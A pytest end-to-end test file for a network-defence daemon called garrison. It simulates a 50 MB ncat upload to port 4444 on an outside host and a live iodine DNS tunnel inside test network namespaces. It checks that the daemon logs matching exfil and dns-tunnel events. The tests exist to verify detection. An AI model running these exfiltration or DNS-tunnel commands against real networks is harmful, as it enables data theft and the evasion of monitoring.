"""End to end: `garrison run` in the defended namespace, with the analytics installed.

A process uploads 50 MB to an odd port; the daemon's own connection sensor and packet capture
must produce a `new-connection` and an `exfil` event naming that process in the NDJSON log. An
iodine tunnel to a server in the defended namespace must produce one `dns-tunnel` event.
"""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.support.netns import DEFENDED_V4, DEFENDED_V6, OUTSIDE_V4, Topology, require_root_tools
from tests.support.netns import topology as make_topology

SRC = Path(__file__).resolve().parents[2] / "src"
PORT = 4444


def wait_for(what: str, check: Callable[[], Any], proc: subprocess.Popen[bytes], err: Path,
             timeout: float = 30.0) -> Any:
    deadline = time.monotonic() + timeout
    while True:
        got = check()
        if got:
            return got
        if proc.poll() is not None:
            raise AssertionError(f"garrison run exited: {err.read_text()[-2000:]}")
        if time.monotonic() > deadline:
            raise AssertionError(f"timed out waiting for {what}: {err.read_text()[-2000:]}")
        time.sleep(0.1)


@pytest.fixture
def topo() -> Iterator[Topology]:
    require_root_tools("ncat")
    with make_topology("gd") as t:
        yield t


@pytest.mark.root
def test_garrison_run_reports_upload_with_its_process(topo: Topology, tmp_path: Path) -> None:
    log, err = tmp_path / "events.ndjson", tmp_path / "garrison.err"
    cfg = tmp_path / "garrison.toml"
    cfg.write_text(
        f'home_net = ["{DEFENDED_V4}/32", "{DEFENDED_V6}/128"]\ndb = ""\n'
        '[firewall]\nbackend = "none"\n[honeypot]\nenabled = false\n'
    )

    def events(action: str) -> list[dict[str, Any]]:
        if not log.exists():
            return []
        docs = [json.loads(x) for x in log.read_text().splitlines() if x.strip()]
        return [d for d in docs if d["event"]["action"] == action]

    env = dict(os.environ, PYTHONPATH=str(SRC))
    daemon = topo.popen(topo.defended, [sys.executable, "-m", "garrison.cli", "run", "--config",
                                        str(cfg), "--log", str(log)],
                        stderr=err.open("w"), env=env)
    sink = topo.popen(topo.outside, ["ncat", "-l", "-k", str(PORT), "--recv-only"],
                      stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    sender = None
    try:
        wait_for("packet capture", lambda: "capturing on" in err.read_text(), daemon, err)
        sender = topo.popen(topo.defended, ["ncat", OUTSIDE_V4, str(PORT), "--send-only"],
                            stdin=subprocess.PIPE, stdout=subprocess.DEVNULL,
                            stderr=subprocess.DEVNULL)
        pid = sender.pid
        conn = wait_for("new-connection of the uploader", lambda: [
            d for d in events("new-connection") if d["garrison"]["pid"] == pid], daemon, err)
        assert conn[0]["destination"] == {"ip": OUTSIDE_V4, "port": PORT}
        assert sender.stdin is not None
        block = os.urandom(1 << 20)
        for _ in range(50):
            sender.stdin.write(block)
        sender.stdin.close()
        assert sender.wait(timeout=60) == 0
        exfil = wait_for("an exfil event naming the uploader", lambda: [
            d for d in events("exfil") if d["garrison"]["pid"] == pid
            and d["garrison"]["type"] == "large-upload"], daemon, err)
        doc = exfil[0]
        assert doc["destination"] == {"ip": OUTSIDE_V4, "port": PORT}
        assert doc["garrison"]["ip"] == OUTSIDE_V4
        assert "ncat" in doc["garrison"]["command_line"]
        assert doc["garrison"]["bytes"] >= 10_000_000
    finally:
        for proc in (sender, sink):
            if proc is not None and proc.poll() is None:
                proc.kill()
                proc.wait(timeout=10)
        daemon.send_signal(signal.SIGTERM)
        try:
            daemon.wait(timeout=30)
        except subprocess.TimeoutExpired:
            daemon.kill()
            daemon.wait(timeout=10)


@pytest.mark.root
def test_garrison_run_catches_a_live_iodine_tunnel(topo: Topology, tmp_path: Path) -> None:
    require_root_tools("iodine", "iodined")
    if not os.path.exists("/dev/net/tun"):
        pytest.skip("needs /dev/net/tun for iodine")
    log, err = tmp_path / "events.ndjson", tmp_path / "garrison.err"
    cfg = tmp_path / "garrison.toml"
    cfg.write_text(
        f'home_net = ["{DEFENDED_V4}/32", "{DEFENDED_V6}/128"]\ndb = ""\n'
        '[firewall]\nbackend = "none"\n[honeypot]\nenabled = false\n'
    )
    env = dict(os.environ, PYTHONPATH=str(SRC))
    daemon = topo.popen(topo.defended, [sys.executable, "-m", "garrison.cli", "run", "--config",
                                        str(cfg), "--log", str(log)],
                        stderr=err.open("w"), env=env)
    server = client = None
    try:
        wait_for("packet capture", lambda: "capturing on" in err.read_text(), daemon, err)
        server = topo.popen(topo.defended, ["iodined", "-f", "-l", DEFENDED_V4, "-P", "garrison",
                                            "10.53.0.1/27", "t.tun.test"],
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        client = topo.popen(topo.outside, ["iodine", "-f", "-r", "-P", "garrison", DEFENDED_V4,
                                           "t.tun.test"],
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        # Once the tunnel is up (its address answers), push some data through it. The daemon
        # captures with the default 256-byte snap length, which cuts the long data queries.
        deadline = time.monotonic() + 60
        while topo.run(topo.outside, ["ping", "-c", "1", "-W", "1", "10.53.0.1"],
                       check=False, timeout=10).returncode != 0:
            assert time.monotonic() < deadline, "iodine tunnel did not come up in 60 s"
        topo.run(topo.outside, ["ping", "-c", "20", "-i", "0.05", "-s", "800", "10.53.0.1"],
                 check=False, timeout=60)

        def tunnels() -> list[dict[str, Any]]:
            if not log.exists():
                return []
            docs = [json.loads(x) for x in log.read_text().splitlines() if x.strip()]
            return [d for d in docs if d["event"]["action"] == "dns-tunnel"]

        found = wait_for("a dns-tunnel event", tunnels, daemon, err, timeout=60)
        doc = found[0]
        assert doc["garrison"]["domain"] == "t.tun.test"
        assert doc["garrison"]["client"] == OUTSIDE_V4 and doc["source"]["ip"] == OUTSIDE_V4
        assert doc["garrison"]["ip"] == OUTSIDE_V4
        assert doc["threat"]["technique"]["id"][0] == "T1071.004"
    finally:
        for proc in (client, server):
            if proc is not None and proc.poll() is None:
                proc.kill()
                proc.wait(timeout=10)
        daemon.send_signal(signal.SIGTERM)
        try:
            daemon.wait(timeout=30)
        except subprocess.TimeoutExpired:
            daemon.kill()
            daemon.wait(timeout=10)
    assert len(tunnels()) == 1  # one event per episode
